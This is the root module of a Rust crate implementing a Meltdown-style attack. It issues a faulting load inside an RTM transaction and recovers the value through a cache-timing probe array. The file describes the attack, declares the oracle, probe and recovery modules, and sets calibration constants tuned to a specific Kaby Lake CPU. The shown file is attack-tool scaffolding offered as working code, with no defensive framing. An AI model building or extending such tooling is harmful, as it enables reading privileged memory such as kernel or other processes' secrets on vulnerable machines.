#![deny(unsafe_op_in_unsafe_fn)]

//! Cache timing covert channel recovering bytes through transient
//! execution.
//!
//! A faulting load is issued inside a containment window; before the CPU
//! squashes it, the loaded value transiently indexes a probe array, leaving
//! one region cache resident. Timing a scan of the probe array afterwards
//! recovers the value. [`CacheOracle`] runs one such round, [`RecoveryLoop`]
//! turns the noisy oracle into a byte sequence with a bounded retry policy.

pub mod hardware;
pub mod oracle;
pub mod probe;
pub mod recovery;
pub mod sched;

#[cfg(test)]
pub(crate) mod synthetic;

pub use hardware::HardwareChannel;
pub use oracle::{CacheOracle, ChannelPrimitives, ProbeOutcome};
pub use probe::{ProbeArray, ScratchBuffer};
pub use recovery::{Confidence, RecoveredByte, RecoveryLoop};

pub use cache_timing::CACHE_LINE_SIZE;

use thiserror::Error;

/// Number of distinguishable symbol values; one probe region per byte value.
pub const SYMBOL_COUNT: usize = 256;

#[derive(Debug, Error, PartialEq, Eq)]
pub enum ConfigError {
    #[error("stride_bits {0} gives an unreasonably large probe array")]
    StrideTooLarge(u32),
    #[error("stride of {0} bytes is within prefetcher reach, need at least 256")]
    StrideTooSmall(usize),
    #[error("hit threshold must be nonzero")]
    ZeroThreshold,
}

/// Setup failures are the only errors that cross the oracle/loop boundary;
/// timing noise is handled by the retry policy and never surfaces as an
/// error.
#[derive(Debug, Error)]
pub enum SetupError {
    #[error("probe array allocation failed: {0}")]
    ProbeAllocation(#[source] nix::errno::Errno),
    #[error("eviction buffer allocation failed: {0}")]
    ScratchAllocation(#[source] nix::errno::Errno),
    #[error("victim buffer allocation failed: {0}")]
    VictimAllocation(#[source] nix::errno::Errno),
    #[error("CPU does not support RTM, transient loads cannot be contained")]
    RtmUnavailable,
    #[error(transparent)]
    Config(#[from] ConfigError),
    #[error("scheduling setup failed: {0}")]
    Sched(#[source] nix::errno::Errno),
}

/// Constants fitted to one cache hierarchy, fixed for the whole run.
///
/// The defaults are the Kaby Lake (i5-7300HQ) tuning: 2 KiB between
/// adjacent probe regions, ~100 cycle hit cutoff (hits measure around
/// 34-46 cycles there, misses around 200), and 4 inconclusive rounds
/// tolerated per byte.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CalibrationConfig {
    /// log2 of the stride between two adjacent probe regions, in bytes.
    pub stride_bits: u32,
    /// Timed accesses strictly below this many cycles count as cache hits.
    pub hit_threshold: u64,
    /// Consecutive inconclusive probes tolerated before the fallback guess
    /// is accepted.
    pub max_inconclusive_retries: u32,
}

impl CalibrationConfig {
    pub const fn stride(&self) -> usize {
        1 << self.stride_bits
    }

    pub const fn probe_array_size(&self) -> usize {
        SYMBOL_COUNT << self.stride_bits
    }

    /// The stride must stay ahead of the adjacent line prefetcher, or
    /// neighbouring regions contaminate each other's timings.
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.stride_bits > 24 {
            return Err(ConfigError::StrideTooLarge(self.stride_bits));
        }
        if self.stride() < 4 * CACHE_LINE_SIZE {
            return Err(ConfigError::StrideTooSmall(self.stride()));
        }
        if self.hit_threshold == 0 {
            return Err(ConfigError::ZeroThreshold);
        }
        Ok(())
    }
}

impl Default for CalibrationConfig {
    fn default() -> Self {
        CalibrationConfig {
            stride_bits: 11,
            hit_threshold: 100,
            max_inconclusive_retries: 4,
        }
    }
}
